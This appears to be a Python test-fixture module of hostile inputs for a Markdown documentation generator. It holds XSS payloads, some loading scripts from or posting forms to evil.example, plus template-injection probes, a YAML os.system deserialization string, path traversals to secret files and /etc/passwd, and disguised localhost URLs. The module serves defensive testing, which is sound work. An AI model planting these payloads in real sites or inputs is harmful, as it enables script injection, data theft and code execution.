"""What a hostile contributor would write: texts that must show as typed, and what is refused."""

from __future__ import annotations

from dataclasses import dataclass

STX, ETX = "\x02", "\x03"


@dataclass(frozen=True)
class Payload:
    """A named text of one or more paragraphs.

    `shape` says where its parts stand when it is more than paragraphs: prose links that are good.
    """

    name: str
    parts: tuple[str, ...]
    shape: str = ""

    @property
    def prose(self) -> str:
        """The text as a field with paragraphs holds it."""
        return self.filled(self.parts)

    @property
    def line(self) -> str:
        """The text as a field of one line holds it."""
        return " ".join(self.prose.split())

    def filled(self, parts: tuple[str, ...]) -> str:
        """Return other words in the shape of this text."""
        return (self.shape or "\n\n".join("{}" for _ in parts)).format(*parts)


def _payload(name: str, *parts: str, shape: str = "") -> Payload:
    return Payload(name, parts, shape)


PAYLOADS = (
    # HTML that runs
    _payload("script", "<script>alert(1)</script>"),
    _payload("script over lines", "<script\ntype=text/javascript\n>alert(1)\n</script\n>"),
    _payload("script in paragraphs", "<script>", "alert(1)", "</script>"),
    _payload("script upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    _payload("script never closed", "<script src=https://evil.example/x.js"),
    _payload("nested script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _payload("svg onload", "<svg/onload=alert(1)>"),
    _payload("svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _payload(
        "math", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>"
    ),
    _payload("image onerror", "<img src=x onerror=alert(1)>"),
    _payload("image in an attribute", '"><img src=x onerror=alert(1)>'),
    _payload("handler in an attribute", '" onmouseover="alert(1)" x="'),
    _payload("handler in single quotes", "' autofocus onfocus='alert(1)"),
    _payload("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>"),
    _payload("markdown in html", "<div markdown onclick=alert(1)>", "[x](javascript:alert(1))"),
    _payload("video", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"),
    _payload("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _payload(
        "object and embed", "<object data=data:text/html,x></object><embed src=//evil.example>"
    ),
    _payload("form", "<form action=//evil.example><input name=p><button>Go</button></form>"),
    _payload("base", "<base href=//evil.example/>"),
    _payload("meta refresh", '<meta http-equiv=refresh content="0;url=//evil.example">'),
    _payload("link", "<link rel=stylesheet href=//evil.example/x.css>"),
    _payload("style", "<style>@import '//evil.example/x.css';</style>"),
    _payload("style attribute", '<p style="position:fixed;inset:0">x</p>'),
    _payload("closing tags", "</p></section></div></article></main></body></html><h1>x</h1>"),
    _payload("closing a title", "</title><script>alert(1)</script>"),
    _payload("closing raw text", "</textarea></noscript></template></style></xmp><plaintext>"),
    _payload("comment", "<!-- x -->"),
    _payload("comment never closed", "<!-- y"),
    _payload("comment closed", "--> x --!> x"),
    _payload("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    _payload("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
    _payload("processing instruction", "<?php echo 1 ?><?xml-stylesheet href=x?>"),
    _payload("declaration", "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>"),
    # entities and placeholders
    _payload("entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    _payload("entities by hex", "&#x3c;img src=x onerror=alert(1)&#x3e;"),
    _payload("entities by name", "&lt;script&gt;alert(1)&lt;/script&gt; &nbsp; &copy &amp;lt;"),
    _payload("entities twice", "&amp;#60;b&amp;#62; &#38;#60;b&#38;#62;"),
    _payload("entity without an end", "&#60script&#62 &#0; &#x110000; &#xD800;"),
    _payload("stash placeholder", "wzxhzdk:0 wzxhzdk:1 klzzwxh:0000 klzzwxh:0001 qlwzxhzdk:0"),
    _payload("escape placeholder", "amp 60 script 62 zz1337820767766393qq"),
    # links in their disguises
    _payload("link to javascript", "[x](javascript:alert(1))"),
    _payload("link in upper case", "[x](JaVaScRiPt:alert(2))"),  # no two alike but for case
    _payload("link to data", "[x](data:text/html;base64,PHNjcmlwdD4=)"),
    _payload(
        "link by entities", "[x](&#106;avascript&#58;alert&#40;1&#41;) [x](javascript&colon;x)"
    ),
    _payload("link over lines", "[x](java\nscript:alert(1)) [x](java\tscript:alert(1))"),
    _payload("link in brackets", '[x](<javascript:alert(1)> "t")'),
    _payload(
        "link to another host", "[x](//evil.example) [x](\\\\evil.example) [x](/\\evil.example)"
    ),
    _payload(
        "link to a view of the source", "[x](vbscript:x) [x](view-source:x) [x](file:///etc/passwd)"
    ),
    _payload("image", "![x](https://evil.example/x.png) ![x](x.png){onerror=alert(1)}"),
    _payload(
        "autolink", "<javascript:alert(1)> <data:text/html,x> <https://evil.example> <a@b.example>"
    ),
    _payload(
        "bare address", "https://evil.example www.evil.example ftp://evil.example a@evil.example"
    ),
    _payload("repository shorthand", "@evil evil/evil#1 evil/evil@abcdef1 #1 github:@evil"),
    _payload("reference", "[x][evil] [evil] [evil][]", "[evil]: javascript:alert(1) 'title'"),
    _payload(
        "reference over a title", "[Sources]: javascript:alert(1)", "[Link to this claim]: data:x"
    ),
    _payload("raw link", "<a href=javascript:alert(1)>x</a>"),
    # prose links that are none, and labels of good ones
    _payload("prose link out", "[x](actor:../../evil) [x](actor:/etc) [x](actor:..%2f..%2fevil)"),
    _payload(
        "prose link of no kind", "[x](claim:a) [x](javascript:actor-000) [x](ACTOR:actor-000)"
    ),
    _payload("prose link in brackets", "[a](b)](actor:actor-000#x) [[x]](actor:actor-000)"),
    _payload(
        "prose link with markup",
        "before",
        "<img src=x onerror=alert(1)>",
        "after",
        shape="{} [{}](actor:actor-000) {}",
    ),
    _payload(
        "prose link with a target",
        "![",
        "x(javascript:alert(1)){: onclick=x }",
        "(javascript:alert(1)){onclick=alert(1)}",
        shape="{}[](actor:) [{}](event:event-000){}",
    ),
    _payload(
        "prose links side by side",
        ">",
        "`a",
        "b`*",
        "**c",
        "_d_",
        shape="{}[{}](place:place-000)[{}](source:source-000) [{}](actor:actor-000) {}",
    ),
    # Markdown, and what Material's usual extensions add to it
    _payload("attribute list", "x {: onclick=alert(1) }", "{: #top .evil style=display:none }"),
    _payload("attribute list short", "{#top .evil onclick='alert(1)'}"),
    _payload("abbreviation", "*[HTML]: <script>alert(1)</script>", "*[claim]: evil HTML claim"),
    _payload("footnote", "x[^1] x^[inline]", "[^1]: <script>alert(1)</script>"),
    _payload("definition list", "Term\n:   Definition", ":   Definition"),
    _payload("admonition", '!!! danger "x"\n    evil', '??? note "x"\n    evil'),
    _payload("block syntax", "/// html | script\nalert(1)\n///", "::: generator.render", ">>> x"),
    _payload("tabs", '=== "One"\n    one', '=== "Two"\n    two'),
    _payload("heading", "# evil", "## evil ##", "evil {#top}"),
    _payload("setext heading", "evil\n====", "evil\n----", "***"),
    _payload("lists", "- evil\n    - evil", "1. evil", "+ [x] evil", "* [ ] evil"),
    _payload("quote and rule", "> evil", "---", "* * *", "<hr>"),
    _payload("code fence", "```html\n<script>alert(1)</script>\n```", "~~~", "```"),
    _payload("fence with options", '```{.js onclick="alert(1)" .evil}', "``` mermaid\ngraph LR"),
    _payload("code span", "`<script>` ``x`` `#!js alert(1)` `$x$`"),
    _payload("indented code", "x\n\t<script>alert(1)</script>", "x\n    <b>"),
    _payload("emphasis", "*a* **b** ***c*** _d_ __e__ ~~f~~ ~g~ ^h^ ^^i^^ ==j=="),
    _payload("table", "| a | b |\n| - | - |\n| <b> | x |", "a | b\n--- | ---\nc | d"),
    _payload("table cell", "a | b | c \\| d"),
    _payload("backslashes", "\\<script\\> \\[x\\](y) \\\\ \\&lt; x\\"),
    _payload("contents", "[TOC] [[_TOC_]] [[Wiki Link]]"),
    _payload("emoji", ":smile: :material-home: :octicons-alert-16:{ onclick=alert(1) }"),
    _payload("math by dollars", "$$x$$ $x$ \\(x\\) \\[x\\] \\begin{x}y\\end{x}"),
    _payload("critic marks", "{++a++} {--b--} {~~c~>d~~} {==e==} {>>f<<}"),
    _payload("keys", '++ctrl+alt+del++ ++"x"++'),
    _payload("symbols", "(c) (tm) (r) --> <-- <--> =/= +/- 1/2 c/o ... -- --- \"x\" 'x'"),
    _payload("snippet", '--8<-- "secret.md"', "--8<--\nsecret.md\n--8<--", ';--8<-- "secret.md"'),
    _payload(
        "snippet with a path", '--8<-- "../secret.md"', '-8<- "secret.md"', "--8<-- 'secret.md:1:2'"
    ),
    _payload(
        "include", "{! secret.md !}", "{% include-markdown 'secret.md' %}", "@import secret.md"
    ),
    _payload("Jinja", "{{ config }} {{ 7 * 7 }} {% include 'secret.md' %} {# x #} {%- raw -%}"),
    _payload(
        "macro", "{{ self.__init__.__globals__ }} {% macro x() %}{% endmacro %} ${x} #{x} <%= x %>"
    ),
    # front matter and the page around
    _payload("front matter", "---", "title: evil\ntemplate: evil.html", "---"),
    _payload("front matter in a line", "x\n---\ntitle: evil\n...\n"),
    _payload("JSON in front matter", 'x", "page_kind": "evil", "moved_to": "//evil.example'),
    _payload(
        "YAML in front matter", "!!python/object/apply:os.system ['x'] !ENV HOME *x &x <<: >- |"
    ),
    _payload("escapes in front matter", '\\" \\n---\\n \\u0022 \\x22 \\ "'),
    _payload("meta data", "Title: evil", "hide: navigation\nsearch: {exclude: true}"),
    _payload(
        "search", '<p data-search-exclude="x"> data-search-exclude="x" <mark data-md-highlight>'
    ),
    _payload(
        "JSON in a script", "</script><script>alert(1)//", "\\u003c/script\\u003e ]]> --> '\";"
    ),
    _payload("numeric", "1986. What a year", "1) one", "0x10 1e5 12:30"),
    # characters
    _payload("zero width", "a\u200bb\u200cc\u2060d\u00ade <\u200bscript> java\u200bscript:x"),
    _payload("spaces", "a\u00a0b\u3000c\u2003d\u00a0<b>"),
    _payload("marks without end", "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0489"),
    _payload(
        "full width",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u2039b\u203a \u02bb \u2018 \u201c",
    ),
    _payload("tag characters", "x\U000e0041\U000e0042\ufe0f\U0001f3f4\U000e0067\U000e007f"),
    _payload("last characters", "a\U0001fffeb\U0010ffffc\ufdd0d\ue000e\ufffde"),
    _payload("very long word", "<b>" + "W" * 250),
    _payload("very long line", *(["[x](javascript:x) &lt; <b>" * 5] * 2)),
)

# Texts that no field holds: what they are, as a YAML double-quoted scalar's inside, and the code.
REFUSED_ANYWHERE = {
    "NUL": ("a\\0b", "Y008"),
    "escape sequence": ("a\\e[2Jb", "Y008"),
    "backspace": ("a\\bb", "Y008"),
    "delete": ("a\\x7fb", "Y008"),
    "C1 control": ("a\\x9bb", "Y008"),
    "next line": ("a\\Nb", "Y008"),
    "line separator": ("a\\Lb", "Y008"),
    "paragraph separator": ("a\\Pb", "Y008"),
    "line separator raw": ("a\u2028b", "Y008"),
    "bidi override": ("a\\u202eb", "Y008"),
    "bidi override raw": ("a\u202eb", "Y008"),
    "bidi embedding": ("a\\u202ab", "Y008"),
    "bidi isolate": ("a\\u2066b", "Y008"),
    "bidi isolate raw": ("a\u2067b", "Y008"),
    "byte order mark": ("a\\ufeffb", "Y008"),
    "byte order mark raw": ("a\ufeffb", "Y008"),
    "stash placeholder": ("\\x02wzxhzdk:0\\x03 \\x02klzzwxh:0001\\x03", "Y008"),
    "stash placeholder raw": (f"{STX}wzxhzdk:0{ETX}", "Y008"),
    "no character": ("a\\uffffb", "Y008"),
    "no character either": ("a\\ufffeb", "Y008"),
    "no character raw": ("a\uffffb", "Y008"),
    "lone surrogate": ("a\\ud800b", "Y001"),
    "surrogate pair": ("\\ud83d\\ude00", "Y001"),
    "past the last character": ("\\U00110000", "Y001"),
    "tab raw": ("a\tb", "Y010"),
}

# Addresses that are none: other schemes and their disguises.
REFUSED_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "view-source:https://example.org/",
    "ftp://example.org/",
    "mailto:a@example.org",
    "//example.org/x",
    "\\\\example.org\\x",
    "/etc/passwd",
    "../../evil",
    "?x",
    "#x",
    "example.org",
    "http:example.org",
    "http:/example.org",
    "http:///example.org",
    "https:\\\\example.org",
    "https://",
    "https://localhost/",
    "https://127.0.0.1/",
    "https://2130706433/",
    "https://0x7f.1/",
    "https://[::1]/",
    "https://[::1",
    "https://.example.org/",
    "https://example..org/",
    "https://example.org./",
    "https://us\u0435r.example.org/",
    "https://example\u3002org/",
    "https://example.org\u2044x/",
    "https://example%2eorg/",
    "https://user@example.org/",
    "https://user:password@example.org/",
    "https://example.org@evil.example/",
    "https://example.org:0/",
    "https://example.org:99999/",
    "https://example.org:x/",
    "https://example.org/ x",
    "https://example.org/\u00a0x",
    "https://example.org/x\nx",
    "https://example.org/<script>",
    'https://example.org/"onclick="alert(1)',
    "https://example.org/'x",
    "https://example.org/`x`",
    "https://example.org/{onclick=x}",
    "https://example.org/a|b",
    "https://example.org/a^b",
    "https://example.org/a\\b",
    "https://example.org/x) [y](javascript:z)",
)

# Addresses that are good, with all that Markdown and its extensions might make of them.
ALLOWED_URLS = (
    "https://example.org/a(b)c)[d](e)!f",
    "https://example.org/*a*_b_**c**__d__~~e~~~f~==g==",
    "https://example.org/++ctrl++$a$$b$$:smile:--8--",
    "https://example.org/?x=1&copy=2&lt;=3&amp;=4&#106;=5",
    "https://example.org/%3Cscript%3E%22%27%0a#javascript:x",
    "https://example.org/javascript:alert(1)",
    "https://example.org/\u00e9\u200b\u4e2d",
    "HTTPS://EXAMPLE.ORG/1st/@me/klzzwxh:0001",
    "https://example.org:8080/!!!/[TOC]/;x,y=z",
)

# Ids that are none: each names a record by `id`, and each refers to one.
REFUSED_IDS = (
    "../evil",
    "..",
    ".",
    "../../../tmp/evil",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "C:evil",
    "evil.md",
    "Evil",
    "evil_1",
    "-evil",
    "evil id",
    "evil\nid",
    "evil\n",
    "\u00e9vil",
    "\u0435vil",
    "evil%2f",
    "evil#x",
    "evil?x",
    "<script>",
    '"onclick="x',
    "{{x}}",
    "a" * 82,
    "",
)
RESERVED_IDS = ("index", "readme")
